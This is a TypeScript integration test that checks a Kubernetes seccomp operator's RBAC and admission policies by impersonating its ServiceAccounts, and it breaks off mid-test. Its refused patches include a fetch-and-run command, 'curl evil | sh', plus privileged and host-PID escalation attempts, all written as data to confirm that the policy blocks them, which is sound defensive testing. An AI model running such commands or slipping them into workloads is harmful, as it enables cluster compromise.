// The operator's RBAC and admission policy, applied for real to a real API
// server, checked by impersonating each ServiceAccount: what it must do works,
// what it must not is refused (by RBAC, or by the policy for another node's
// SeccompNodeStatus).
//
// The control plane is shared by every suite, so the objects are installed
// under this test's namespace instead of seccomp-operator-system (every
// occurrence, the policy's username included) and cluster-scoped names get the
// namespace as a suffix: the real policy must not refuse writes of other
// suites, and another suite's copy must not mask a mistake here.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import type { KubeConfig } from "@kubernetes/client-node";
import { parseAllDocuments } from "yaml";
import { API_VERSION, FIELD_MANAGER as FIELD_MANAGER_OPERATOR, NODE_STATUS_KIND, PROFILE_KIND, RECORDING_FIELD_MANAGER } from "../../src/api/names.js";
import { applyBodyFor, WORKLOADS } from "../../src/controller/workloads/workload-kinds.js";
import type { ProfileReadiness } from "../../src/controller/profiles/readiness-index.js";
import { WorkloadReconciler } from "../../src/controller/workloads/workload-reconciler.js";
import type { ClusterAccess } from "../../src/kube/cluster-access.js";
import { Informer } from "../../src/kube/informer.js";
import { createLogger } from "../../src/kube/logger.js";
import type { KubeObject } from "../../src/kube/objects.js";
import { RestClient } from "../../src/kube/rest-client.js";
import { installFile } from "../../hack/generate-install.js";
import { installCrds } from "../harness/crds.js";
import { apiRequest } from "../harness/raw-api.js";
import { eventually } from "../harness/eventually.js";
import { createNamespace, deleteNamespace } from "../harness/namespaces.js";
import { useControlPlane } from "../harness/shared.js";

const OPERATOR_NAMESPACE = "seccomp-operator-system";
const CATALOGUE_NAMESPACE = "seccomp-catalogue";
/** The controller's role names it, so it is not renamed per run; nothing else in the cluster uses the name. */
const WEBHOOK_CONFIGURATION = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/seccomp-operator";
const FIELD_MANAGER = "seccomp-operator-rbac-test";
const NODE_NAME_EXTRA = "authentication.kubernetes.io/node-name";
const RBAC_KINDS = new Set([
  "ServiceAccount",
  "ClusterRole",
  "ClusterRoleBinding",
  "Role",
  "RoleBinding",
  "ValidatingAdmissionPolicy",
  "ValidatingAdmissionPolicyBinding",
]);
const CLUSTER_SCOPED = new Set(["ClusterRole", "ClusterRoleBinding", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"]);
const PLURALS: Record<string, string> = {
  ServiceAccount: "serviceaccounts",
  ClusterRole: "clusterroles",
  ClusterRoleBinding: "clusterrolebindings",
  Role: "roles",
  RoleBinding: "rolebindings",
  ValidatingAdmissionPolicy: "validatingadmissionpolicies",
  ValidatingAdmissionPolicyBinding: "validatingadmissionpolicybindings",
};

interface Obj {
  apiVersion: string;
  kind: string;
  metadata: { name: string; namespace?: string };
  [key: string]: unknown;
}

interface Identity {
  user: string;
  groups: string[];
  extra?: Record<string, string[]>;
}

interface Response {
  status: number;
  body: { message?: string; [key: string]: unknown } | undefined;
  text: string;
}

interface Call {
  method?: "GET" | "POST" | "PUT" | "PATCH" | "DELETE";
  path: string;
  body?: unknown;
  contentType?: string;
  /** For watches: answer with the status as soon as the headers arrive. */
  statusOnly?: boolean;
}

/** One request to the API server, as the administrator or impersonating `as`. */
async function call(kc: KubeConfig, as: Identity | undefined, req: Call): Promise<Response> {
  const headers: Record<string, string | string[]> = {};
  if (as) {
    headers["Impersonate-User"] = as.user;
    headers["Impersonate-Group"] = as.groups;
    // Extra keys travel percent-encoded in the header name.
    for (const [key, values] of Object.entries(as.extra ?? {})) headers[`Impersonate-Extra-${encodeURIComponent(key)}`] = values;
  }
  return (await apiRequest(kc, { ...req, headers })) as Response;
}

function show(res: Response): string {
  return `HTTP ${res.status}: ${res.body?.message ?? res.text.slice(0, 500)}`;
}

function expectStatus(res: Response, expected: number | number[], what: string): void {
  const ok = Array.isArray(expected) ? expected : [expected];
  assert.ok(ok.includes(res.status), `${what}: expected HTTP ${ok.join(" or ")}, got ${show(res)}`);
}

/** Refused by RBAC: 403 with the authorizer's message, not by an admission policy. */
function expectForbiddenByRbac(res: Response, what: string): void {
  expectStatus(res, 403, what);
  assert.match(res.body?.message ?? "", /cannot (get|list|watch|create|update|patch|delete) resource/, what);
}

function serviceAccount(namespace: string, name: string, extra?: Record<string, string[]>): Identity {
  return {
    user: `system:serviceaccount:${namespace}:${name}`,
    groups: ["system:serviceaccounts", `system:serviceaccounts:${namespace}`, "system:authenticated"],
    extra,
  };
}

/**
 * The RBAC objects of dist/install.yaml that concern the operator's
 * ServiceAccounts, moved to `namespace` (the catalogue to `catalogue`) and with
 * cluster-scoped names suffixed.
 */
function operatorRbac(namespace: string, catalogue: string): Obj[] {
  const all = parseAllDocuments(readFileSync(installFile, "utf8"))
    .map((d) => d.toJS() as Obj | null)
    .filter((o): o is Obj => o !== null && RBAC_KINDS.has(o.kind));
  // Only what the operator's accounts are bound to: the roles for people are
  // left out (they aggregate into the built-in admin, edit and view roles).
  const bindings = all.filter((o) => {
    const subjects = (o.subjects ?? []) as { kind: string; namespace?: string }[];
    return subjects.some((s) => s.kind === "ServiceAccount" && s.namespace === OPERATOR_NAMESPACE);
  });
  const roles = new Set(bindings.map((b) => `${(b.roleRef as { kind: string }).kind}/${(b.roleRef as { name: string }).name}`));
  const chosen = all.filter(
    (o) =>
      o.kind === "ServiceAccount" ||
      // The policies that concern the agent's and the controller's accounts; the tenants' policies have their own suite.
      (o.kind.startsWith("ValidatingAdmissionPolicy") && (o.metadata.name.startsWith("seccomp-operator-agent-") || o.metadata.name.startsWith("seccomp-operator-controller-"))) ||
      bindings.includes(o) ||
      roles.has(`${o.kind}/${o.metadata.name}`),
  );
  const suffix = `-${namespace}`;
  return chosen.map((original) => {
    const o = JSON.parse(JSON.stringify(original).replaceAll(OPERATOR_NAMESPACE, namespace).replaceAll(CATALOGUE_NAMESPACE, catalogue)) as Obj;
    if (CLUSTER_SCOPED.has(o.kind)) o.metadata.name += suffix;
    if (o.kind === "ClusterRoleBinding") (o.roleRef as { name: string }).name += suffix;
    if (o.kind === "ValidatingAdmissionPolicyBinding") (o.spec as { policyName: string }).policyName += suffix;
    return o;
  });
}

function objectPath(o: Obj): string {
  const base = o.apiVersion.includes("/") ? `/apis/${o.apiVersion}` : `/api/${o.apiVersion}`;
  const ns = o.metadata.namespace ? `/namespaces/${o.metadata.namespace}` : "";
  return `${base}${ns}/${PLURALS[o.kind]}/${o.metadata.name}`;
}

describe("RBAC and admission policy of the operator's ServiceAccounts", function () {
  const cp = useControlPlane();
  let kc: KubeConfig;
  let ns: string;
  let catalogue: string;
  let installed: Obj[] = [];
  let agent: Identity;
  let agentWithoutNode: Identity;
  let controller: Identity;
  let nodeA: string;
  let nodeB: string;
  const profiles = `/apis/${API_VERSION}/seccompprofiles`;
  const nodeStatuses = `/apis/${API_VERSION}/seccompnodestatuses`;
  const MERGE = "application/merge-patch+json";

  const nodeStatus = (name: string) => ({
    apiVersion: API_VERSION,
    kind: NODE_STATUS_KIND,
    metadata: { name },
    status: { agentVersion: "0.1.0", heartbeatTime: new Date().toISOString().replace(/\.\d+Z$/, "Z") },
  });
  const admin = (req: Call) => call(kc, undefined, req);

  before(async function () {
    this.timeout(120_000);
    kc = cp().kubeConfig();
    await installCrds(kc);
    ns = await createNamespace(cp(), "rbac");
    catalogue = await createNamespace(cp(), "rbac-catalogue");
    // Node names are cluster-wide: unique to this run, like the namespace.
    nodeA = `${ns}-node-a`;
    nodeB = `${ns}-node-b`;
    agent = serviceAccount(ns, "seccomp-operator-agent", { [NODE_NAME_EXTRA]: [nodeA] });
    agentWithoutNode = serviceAccount(ns, "seccomp-operator-agent");
    controller = serviceAccount(ns, "seccomp-operator-controller");

    installed = operatorRbac(ns, catalogue);
    assert.deepEqual(
      installed.map((o) => o.kind).sort(),
      [
        "ClusterRole",
        "ClusterRole",
        "ClusterRole",
        "ClusterRole",
        "ClusterRoleBinding",
        "ClusterRoleBinding",
        "ClusterRoleBinding",
        "ClusterRoleBinding",
        "Role",
        "Role",
        "Role",
        "Role",
        "RoleBinding",
        "RoleBinding",
        "RoleBinding",
        "RoleBinding",
        "ServiceAccount",
        "ServiceAccount",
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicyBinding",
        "ValidatingAdmissionPolicyBinding",
        "ValidatingAdmissionPolicyBinding",
      ],
    );
    for (const o of installed) {
      const res = await admin({
        method: "PATCH",
        path: `${objectPath(o)}?fieldManager=${FIELD_MANAGER}&fieldValidation=Strict`,
        contentType: "application/apply-patch+yaml",
        body: o,
      });
      expectStatus(res, [200, 201], `applying ${o.kind} ${o.metadata.name}`);
    }

    // What the tests act on, created by the administrator.
    const fixtures: [string, unknown][] = [
      [
        `/apis/apps/v1/namespaces/${ns}/deployments`,
        {
          apiVersion: "apps/v1",
          kind: "Deployment",
          metadata: { name: "web" },
          spec: {
            replicas: 0,
            selector: { matchLabels: { app: "web" } },
            template: { metadata: { labels: { app: "web" } }, spec: { containers: [{ name: "app", image: "registry.example/web:1" }] } },
          },
        },
      ],
      [
        `/apis/batch/v1/namespaces/${ns}/cronjobs`,
        {
          apiVersion: "batch/v1",
          kind: "CronJob",
          metadata: { name: "nightly" },
          spec: {
            schedule: "0 3 * * *",
            suspend: true,
            jobTemplate: {
              spec: { template: { spec: { restartPolicy: "Never", containers: [{ name: "job", image: "registry.example/job:1" }] } } },
            },
          },
        },
      ],
      [
        `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles`,
        {
          apiVersion: API_VERSION,
          kind: PROFILE_KIND,
          metadata: { name: "web" },
          spec: { defaultAction: "SCMP_ACT_LOG" },
        },
      ],
      [`/api/v1/namespaces/${ns}/secrets`, { apiVersion: "v1", kind: "Secret", metadata: { name: "token" }, stringData: { token: "x" } }],
      [`/api/v1/namespaces/${ns}/configmaps`, { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "settings" }, data: { a: "b" } }],
      // The webhook's certificate Secret, empty, as the install creates it.
      [`/api/v1/namespaces/${ns}/secrets`, { apiVersion: "v1", kind: "Secret", metadata: { name: "seccomp-operator-webhook-tls" }, type: "Opaque" }],
      [
        `/apis/coordination.k8s.io/v1/namespaces/${ns}/leases`,
        { apiVersion: "coordination.k8s.io/v1", kind: "Lease", metadata: { name: "someone-else" }, spec: { holderIdentity: "x" } },
      ],
      [nodeStatuses, nodeStatus(nodeB)],
    ];
    for (const [path, body] of fixtures) expectStatus(await admin({ method: "POST", path, body }), 201, `creating ${path}`);

    // RBAC and admission policies take effect once the API server's caches
    // have them; the policy is probed with a dry run so that nothing is
    // written while it is not active yet.
    await eventually(async () => expectStatus(await call(kc, agent, { path: profiles }), 200, "agent lists profiles"));
    await eventually(async () => expectStatus(await call(kc, controller, { path: `/api/v1/pods` }), 200, "controller lists pods"));
    await eventually(async () => {
      const res = await call(kc, agent, { method: "POST", path: `${nodeStatuses}?dryRun=All`, body: nodeStatus(`${ns}-node-probe`) });
      expectStatus(res, 403, "the admission policy is active");
    });
  });

  after(async function () {
    this.timeout(60_000);
    if (!kc) return;
    for (const name of [nodeA, nodeB]) if (name) await admin({ method: "DELETE", path: `${nodeStatuses}/${name}` });
    for (const o of installed.filter((x) => CLUSTER_SCOPED.has(x.kind))) await admin({ method: "DELETE", path: objectPath(o) });
    await admin({ method: "DELETE", path: WEBHOOK_CONFIGURATION });
    if (ns) await deleteNamespace(cp(), ns);
    if (catalogue) await deleteNamespace(cp(), catalogue);
  });

  describe("the node agent", function () {
    it("reads and watches the profiles of every namespace", async function () {
      expectStatus(await call(kc, agent, { path: profiles }), 200, "list profiles");
      expectStatus(await call(kc, agent, { path: `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles/web` }), 200, "get a profile");
      expectStatus(await call(kc, agent, { path: `${profiles}?watch=true&timeoutSeconds=1`, statusOnly: true }), 200, "watch profiles");
    });

    it("reads and watches pods (cluster-wide: RBAC cannot limit it to its node's)", async function () {
      expectStatus(await call(kc, agent, { path: `/api/v1/pods?fieldSelector=spec.nodeName%3D${nodeA}` }), 200, "list own pods");
      expectStatus(await call(kc, agent, { path: `/api/v1/pods?watch=true&timeoutSeconds=1&fieldSelector=spec.nodeName%3D${nodeA}`, statusOnly: true }), 200, "watch");
      expectStatus(await call(kc, agent, { path: `/api/v1/pods` }), 200, "list all pods");
    });

    it("creates, reads, patches, applies and updates the SeccompNodeStatus of its own node", async function () {
      expectStatus(await call(kc, agent, { method: "POST", path: nodeStatuses, body: nodeStatus(nodeA) }), 201, "create");
      const got = await call(kc, agent, { path: `${nodeStatuses}/${nodeA}` });
      expectStatus(got, 200, "get");
      expectStatus(
        await call(kc, agent, {
          method: "PATCH",
          path: `${nodeStatuses}/${nodeA}`,
          contentType: MERGE,
          body: { status: { profiles: { [`${ns}/web`]: "a".repeat(64) } } },
        }),
        200,
        "merge patch",
      );
      expectStatus(
        await call(kc, agent, {
          method: "PATCH",
          path: `${nodeStatuses}/${nodeA}?fieldManager=seccomp-operator-agent&force=true`,
          contentType: "application/apply-patch+yaml",
          body: nodeStatus(nodeA),
        }),
        200,
        "server-side apply",
      );
      const current = await call(kc, agent, { path: `${nodeStatuses}/${nodeA}` });
      expectStatus(await call(kc, agent, { method: "PUT", path: `${nodeStatuses}/${nodeA}`, body: current.body }), 200, "update");
    });

    it("may not write another node's SeccompNodeStatus: the admission policy refuses, naming both", async function () {
      const denied = (res: Response, what: string, target: string) => {
        expectStatus(res, 403, what);
        const message = res.body?.message ?? "";
        assert.match(message, /ValidatingAdmissionPolicy/, what);
        assert.ok(
          message.includes(`the seccomp-operator node agent on node ${nodeA} may only write SeccompNodeStatus ${nodeA}, not ${target}`),
          `${what}: ${message}`,
        );
      };
      const nodeC = `${ns}-node-c`;
      denied(await call(kc, agent, { method: "POST", path: nodeStatuses, body: nodeStatus(nodeC) }), "create another node's", nodeC);
      denied(
        await call(kc, agent, { method: "PATCH", path: `${nodeStatuses}/${nodeB}`, contentType: MERGE, body: { status: { agentVersion: "forged" } } }),
        "patch another node's",
        nodeB,
      );
      const other = await admin({ path: `${nodeStatuses}/${nodeB}` });
      denied(await call(kc, agent, { method: "PUT", path: `${nodeStatuses}/${nodeB}`, body: other.body }), "update another node's", nodeB);
      expectStatus(await admin({ path: `${nodeStatuses}/${nodeC}` }), 404, "nothing was created");
      // Deleting is not granted at all.
      expectForbiddenByRbac(await call(kc, agent, { method: "DELETE", path: `${nodeStatuses}/${nodeB}` }), "delete");
    });

    it("without a node name in its credentials, may write no SeccompNodeStatus at all", async function () {
      const res = await call(kc, agentWithoutNode, {
        method: "PATCH",
        path: `${nodeStatuses}/${nodeA}`,
        contentType: MERGE,
        body: { status: { agentVersion: "no-node" } },
      });
      expectStatus(res, 403, "patch without node name");
      assert.match(res.body?.message ?? "", /its credentials name no node/);
      assert.match(res.body?.message ?? "", new RegExp(`UPDATE of SeccompNodeStatus ${nodeA} refused`));
      const created = await call(kc, agentWithoutNode, { method: "POST", path: nodeStatuses, body: nodeStatus(`${ns}-node-d`) });
      expectStatus(created, 403, "create without node name");
      assert.match(created.body?.message ?? "", /its credentials name no node/);
    });

    it("may not touch workloads, Secrets, ConfigMaps, nodes or the profiles themselves", async function () {
      const refused: [Call, string][] = [
        [{ method: "PATCH", path: `/apis/apps/v1/namespaces/${ns}/deployments/web`, contentType: MERGE, body: { metadata: { labels: { x: "y" } } } }, "patch a Deployment"],
        [{ path: `/apis/apps/v1/deployments` }, "list Deployments"],
        [{ path: `/api/v1/namespaces/${ns}/secrets/token` }, "get a Secret"],
        [{ path: `/api/v1/secrets` }, "list Secrets"],
        [{ path: `/api/v1/namespaces/${ns}/secrets` }, "list the Secrets of the operator's namespace"],
        [{ method: "POST", path: `/api/v1/namespaces/${ns}/secrets`, body: { apiVersion: "v1", kind: "Secret", metadata: { name: "seccomp-operator-digest-salt" } } }, "create the digest salt"],
        [{ method: "PATCH", path: `/api/v1/namespaces/${ns}/secrets/seccomp-operator-digest-salt`, contentType: MERGE, body: { data: { salt: "" } } }, "change the digest salt"],
        [{ path: `/api/v1/namespaces/${ns}/configmaps/settings` }, "get a ConfigMap"],
        [{ path: `/api/v1/nodes` }, "list nodes"],
        [{ method: "POST", path: `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles`, body: { apiVersion: API_VERSION, kind: PROFILE_KIND, metadata: { name: "x" }, spec: { defaultAction: "SCMP_ACT_LOG" } } }, "create a profile"],
        [{ method: "PATCH", path: `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles/web`, contentType: MERGE, body: { spec: { defaultAction: "SCMP_ACT_ALLOW" } } }, "patch a profile"],
        [{ method: "PATCH", path: `/apis/${API_VERSION}/namespaces/${ns}/seccompprofiles/web/status`, contentType: MERGE, body: { status: { observedGeneration: 1 } } }, "patch a profile's status"],
        // The agent records no Events.
        [{ method: "POST", path: `/apis/events.k8s.io/v1/namespaces/${ns}/events`, body: { apiVersion: "events.k8s.io/v1", kind: "Event", metadata: { generateName: "x-" } } }, "create an Event"],
        [{ method: "POST", path: `/api/v1/namespaces/${ns}/events`, body: { apiVersion: "v1", kind: "Event", metadata: { generateName: "x-" } } }, "create a core Event"],
      ];
      for (const [req, what] of refused) expectForbiddenByRbac(await call(kc, agent, req), what);
    });
  });

  describe("the reviews behind /metrics", function () {
    const reviews = (user: string): [Call, string][] => [
      [{ method: "POST", path: "/apis/authentication.k8s.io/v1/tokenreviews", body: { apiVersion: "authentication.k8s.io/v1", kind: "TokenReview", spec: { token: "not-a-token" } } }, "create a TokenReview"],
      [
        {
          method: "POST",
          path: "/apis/authorization.k8s.io/v1/subjectaccessreviews",
          body: { apiVersion: "authorization.k8s.io/v1", kind: "SubjectAccessReview", spec: { user, nonResourceAttributes: { path: "/metrics", verb: "get" } } },
        },
        "create a SubjectAccessReview",
      ],
    ];

    it("the controller and the agent may ask the API server who a caller is and whether it may get /metrics", async function () {
      for (const who of [controller, agent]) {
        for (const [req, what] of reviews("system:serviceaccount:elsewhere:prometheus")) expectStatus(await call(kc, who, req), 201, `${who.user}: ${what}`);
      }
    });

    it("neither may read /metrics of the API server, nor review on behalf of a namespace (LocalSubjectAccessReview)", async function () {
      for (const who of [controller, agent]) {
        expectStatus(await call(kc, who, { path: "/metrics" }), 403, `${who.user}: get /metrics`);
        const local = await call(kc, who, {
          method: "POST",
          path: `/apis/authorization.k8s.io/v1/namespaces/${ns}/localsubjectaccessreviews`,
          body: { apiVersion: "authorization.k8s.io/v1", kind: "LocalSubjectAccessReview", metadata: { namespace: ns }, spec: { user: "x", resourceAttributes: { namespace: ns, verb: "get", resource: "secrets" } } },
        });
        expectForbiddenByRbac(local, `${who.user}: create a LocalSubjectAccessReview`);
      }
    });
  });

  describe("the controller", function () {
    it("patches the pod templates of every kind of workload it supports", async function () {
      const apply = await call(kc, controller, {
        method: "PATCH",
        path: `/apis/apps/v1/namespaces/${ns}/deployments/web?fieldManager=seccomp-operator`,
        contentType: "application/apply-patch+yaml",
        body: {
          apiVersion: "apps/v1",
          kind: "Deployment",
          metadata: { name: "web", namespace: ns },
          spec: {
            template: {
              spec: {
                containers: [
                  { name: "app", securityContext: { seccompProfile: { type: "Localhost", localhostProfile: `operator/${ns}/web/${"a".repeat(64)}.json` } } },
                ],
              },
            },
          },
        },
      });
      expectStatus(apply, 200, "server-side apply to a Deployment");
      expectStatus(
        await call(kc, controller, {
          method: "PATCH",
          path: `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`,
          contentType: MERGE,
          body: { metadata: { annotations: { "container.seccomp.operator.dev/job": "nightly-job-audit" } } },
        }),
        200,
        "patch a CronJob",
      );
      for (const path of ["apps/v1/deployments", "apps/v1/statefulsets", "apps/v1/daemonsets", "apps/v1/replicasets", "batch/v1/jobs", "batch/v1/cronjobs"]) {
        expectStatus(await call(kc, controller, { path: `/apis/${path}` }), 200, `list ${path}`);
        expectStatus(await call(kc, controller, { path: `/apis/${path}?watch=true&timeoutSeconds=1`, statusOnly: true }), 200, `watch ${path}`);
      }
    });

    it("changes in workloads only the seccomp profiles of containers and its own annotations (admission policy), in kube-system too", async function () {
      const deployment = `/apis/apps/v1/namespaces/${ns}/deployments/web`;
      const cronJob = `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`;
      const pinned = (name: string) => ({ type: "Localhost", localhostProfile: `operator/${ns}/${name}/${"b".repeat(64)}.json` });
      const applyAs = (path: string, manager: string, body: unknown) =>
        call(kc, controller, { method: "PATCH", path: `${path}?fieldManager=${manager}&force=true`, contentType: "application/apply-patch+yaml", body });
      // Strategic merge: containers merge by name, as kubectl patch sends them.
      const patch = (path: string, body: unknown) => call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body });
      const refused = (res: Response, what: string, pattern: RegExp) => {
        expectStatus(res, 403, what);
        assert.match(res.body?.message ?? "", pattern, `${what}: ${show(res)}`);
      };
      const template = (containers: unknown[], extra: Record<string, unknown> = {}) => ({ spec: { template: { spec: { containers, ...extra } } } });

      // What the controller writes, as it writes it: the body of the workload reconciler and the recording's annotations.
      const body = applyBodyFor("Deployment", { namespace: ns, name: "web" }, { containers: [{ name: "app", securityContext: { seccompProfile: pinned("web") } }] });
      expectStatus(await applyAs(deployment, FIELD_MANAGER_OPERATOR, body), 200, "apply the seccomp profile");
      const annotations = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "web", namespace: ns, annotations: { "container.seccomp.operator.dev/app": "rec-app-audit" } } };
      expectStatus(await applyAs(deployment, RECORDING_FIELD_MANAGER, annotations), 200, "apply a recording's annotation");
      // Dropping its fields again (an apply without them) is allowed.
      expectStatus(await applyAs(deployment, FIELD_MANAGER_OPERATOR, applyBodyFor("Deployment", { namespace: ns, name: "web" }, {})), 200, "release the seccomp profile");
      const cron = applyBodyFor("CronJob", { namespace: ns, name: "nightly" }, { containers: [{ name: "job", securityContext: { seccompProfile: pinned("job") } }] });
      expectStatus(await applyAs(cronJob, FIELD_MANAGER_OPERATOR, cron), 200, "apply the seccomp profile of a CronJob");

      const inTemplate = /may change nothing of Deployment .* but the seccompProfile/;
      const inContainers = /may change in the containers of Deployment .* only securityContext\.seccompProfile, not: container app/;
      refused(await patch(deployment, template([{ name: "app", image: "registry.example/evil:1" }])), "change an image", inContainers);
      refused(await patch(deployment, template([{ name: "app", securityContext: { privileged: true } }])), "make a container privileged", inContainers);
      refused(await patch(deployment, template([{ name: "app", securityContext: { allowPrivilegeEscalation: true } }])), "allow privilege escalation", inContainers);
      refused(await patch(deployment, template([{ name: "app", command: ["/bin/sh", "-c", "curl evil | sh"] }])), "change a command", inContainers);
      refused(await patch(deployment, template([{ name: "sidecar", image: "registry.example/evil:1" }])), "add a container", inTemplate);
      refused(await patch(deployment, { spec: { template: { spec: { hostPID: true } } } }), "share the host's PID namespace", inTemplate);
      refused(await patch(deployment, { spec: { template: { spec: { securityContext: { seccompProfile: { type: "Unconfined" } } } } } }), "set the pod's seccomp profile", inTemplate);
      refused(await patch(deployment, { spec: { replicas: 5 } }), "scale", inTemplate);
      refused(await patch(deployment, { spec: { template: { metadata: { labels: { app: "web", extra: "x" } } } } }), "label the pod template", inTemplate);
      refused(await patch(deployment, { metadata: { annotations: { "example.com/anything": "x" } } }), "a foreign annotation", /only the annotations container\.seccomp\.operator\.dev\/<container>/);
      refused(await patch(deployment, { metadata: { annotations: { "seccomp.operator.dev/profile": "other" } } }), "ask for a profile itself", /only the annotations container\.seccomp\.operator\.dev/);
      refused(await patch(deployment, { metadata: { labels: { app: "x" } } }), "a label", /only the annotations/);
      refused(await patch(deployment, template([{ name: "app", securityContext: { seccompProfile: { type: "Unconfined" } } }])), "an Unconfined profile", /sets only Localhost seccomp profiles under operator\//);
      refused(await patch(deployment, template([{ name: "app", securityContext: { seccompProfile: { type: "RuntimeDefault" } } }])), "a RuntimeDefault profile", /sets only Localhost seccomp profiles/);
      refused(await patch(cronJob, { spec: { schedule: "* * * * *" } }), "a CronJob's schedule", /may change nothing of CronJob/);
      refused(
        await patch(cronJob, { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: "job", image: "registry.example/evil:1" }] } } } } } }),
        "a CronJob's image",
        /may change in the containers of CronJob .* not: container job/,
      );

      // RBAC reaches every namespace; so does the policy.
      const name = `${ns}-probe`;
      const system = `/apis/apps/v1/namespaces/kube-system/deployments`;
      const probe = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name }, spec: { replicas: 0, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: "app", image: "registry.k8s.io/pause:3.10" }] } } } };
      expectStatus(await admin({ method: "POST", path: system, body: probe }), 201, "a Deployment in kube-system");
      try {
        refused(await patch(`${system}/${name}`, template([{ name: "app", image: "registry.example/evil:1" }])), "change an image in kube-system", /may change in the containers of Deployment kube-system\//);
        const sys = applyBodyFor("Deployment", { namespace: "kube-system", name }, { containers: [{ name: "app", securityContext: { seccompProfile: { type: "Localhost", localhostProfile: `operator/kube-system/x/${"c".repeat(64)}.json` } } }] });
        expectStatus(await applyAs(`${system}/${name}`, FIELD_MANAGER_OPERATOR, sys), 200, "apply a seccomp profile in kube-system");
      } finally {
        await admin({ method: "DELETE", path: `${system}/${name}` });
      }
    });

    it("its workload reconciler, run as its account, sets and releases profiles in a Deployment's containers and init containers and in a CronJob", async function () {
      // The controller's own code, its requests impersonating its account; the caches read as the administrator.
      const access: ClusterAccess = {
        getCurrentCluster: () => kc.getCurrentCluster(),
        applyToHTTPSOptions: async (options) => {
          await kc.applyToHTTPSOptions(options);
          options.headers = { ...options.headers, "Impersonate-User": controller.user, "Impersonate-Group": controller.groups };
        },
      };
      const quiet = createLogger("test", "silent");
      const reader = new RestClient(kc);
      const caches = { Deployment: new Informer<KubeObject>(reader, { resource: WORKLOADS.Deployment.resource, namespace: ns, logger: quiet }), CronJob: new Informer<KubeObject>(reader, { resource: WORKLOADS.CronJob.resource, namespace: ns, logger: quiet }) };
      const sets = `/apis/apps/v1/namespaces/${ns}/deployments`;
      const annotations = { "seccomp.operator.dev/profile": "app" };
      const labels = { app: "reconciled" };
      const workload = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "reconciled", annotations }, spec: { replicas: 0, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { initContainers: [{ name: "init", image: "registry.example/init:1" }], containers: [{ name: "app", image: "registry.example/app:1", securityContext: { allowPrivilegeEscalation: false } }] } } } };
      expectStatus(await admin({ method: "POST", path: sets, body: workload }), 201, "an annotated Deployment");
      expectStatus(await admin({ method: "PATCH", path: `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`, contentType: MERGE, body: { metadata: { annotations } } }), 200, "an annotated CronJob");
      for (const c of Object.values(caches)) c.start();
      try {
        for (const c of Object.values(caches)) assert.ok(await c.waitForSync(20_000));
        let readiness: ProfileReadiness = { state: "ready", key: `${ns}/app`, hash: "d".repeat(64) };
        const reconciler = new WorkloadReconciler({ client: new RestClient(access), caches, readiness: () => readiness, events: { normal: () => undefined, warn: () => undefined }, logger: quiet });
        const path = `operator/${ns}/app/${"d".repeat(64)}.json`;
        await eventually(async () => assert.equal((await reconciler.reconcileWorkload("Deployment", ns, "reconciled")).result, "applied"));
        await eventually(async () => assert.equal((await reconciler.reconcileWorkload("CronJob", ns, "nightly")).result, "applied"));
        const got = (await admin({ path: `${sets}/reconciled` })).body as { spec: { template: { spec: { initContainers: { securityContext?: { seccompProfile?: unknown } }[]; containers: { securityContext?: { seccompProfile?: unknown } }[] } } } };
        assert.deepEqual(got.spec.template.spec.containers[0]!.securityContext?.seccompProfile, { type: "Localhost", localhostProfile: path });
        assert.deepEqual(got.spec.template.spec.initContainers[0]!.securityContext?.seccompProfile, { type: "Localhost", localhostProfile: path });
        // The annotation goes: the reconciler releases its fields.
        expectStatus(await admin({ method: "PATCH", path: `${sets}/reconciled`, contentType: MERGE, body: { metadata: { annotations: { "seccomp.operator.dev/profile": null } } } }), 200, "remove the annotation");
        readiness = { state: "missing" };
        await eventually(async () => {
          await reconciler.reconcileWorkload("Deployment", ns, "reconciled");
          const after = (await admin({ path: `${sets}/reconciled` })).body as typeof got;
          assert.equal(after.spec.template.spec.containers[0]!.securityContext?.seccompProfile, undefined);
          assert.deepEqual(after.spec.template.spec.containers[0]!.securityContext, { allowPrivilegeEscalation: false });
        });
      } finally {
        await Promise.all(Object.values(caches).map((c) => c.stop()));
      }
    });

    it("the workload-fields policy stays within the API server's CEL cost limits for a large pod template", async function () {
      // A big object for a loaded machine's API server, with or without the policy.
      this.timeout(60_000);
      // 100 containers and 100 init containers, each with 30 environment variables: every one gets a profile in one apply.
      const count = 100;
      const env = Array.from({ length: 30 }, (_, i) => ({ name: `VAR_${i}`, value: "x".repeat(40) }));
      const many = (prefix: string) => Array.from({ length: count }, (_, i) => ({ name: `${prefix}-${i}`, image: "registry.example/app:1", env }));
      const labels = { app: "large" };
      const large = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "large" }, spec: { replicas: 0, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { initContainers: many("init"), containers: many("app") } } } };
      expectStatus(await admin({ method: "POST", path: `/apis/apps/v1/namespaces/${ns}/deployments`, body: large }), 201, "a large Deployment");
      const seccompProfile = { type: "Localhost", localhostProfile: `operator/${ns}/large/${"e".repeat(64)}.json` };
      const body = applyBodyFor("Deployment", { namespace: ns, name: "large" }, {
        containers: many("app").map((c) => ({ name: c.name, securityContext: { seccompProfile } })),
        initContainers: many("init").map((c) => ({ name: c.name, securityContext: { seccompProfile } })),
      });
      const path = `/apis/apps/v1/namespaces/${ns}/deployments/large`;
      const started = Date.now();
      const res = await call(kc, controller, { method: "PATCH", path: `${path}?fieldManager=${FIELD_MANAGER_OPERATOR}&force=true`, contentType: "application/apply-patch+yaml", body });
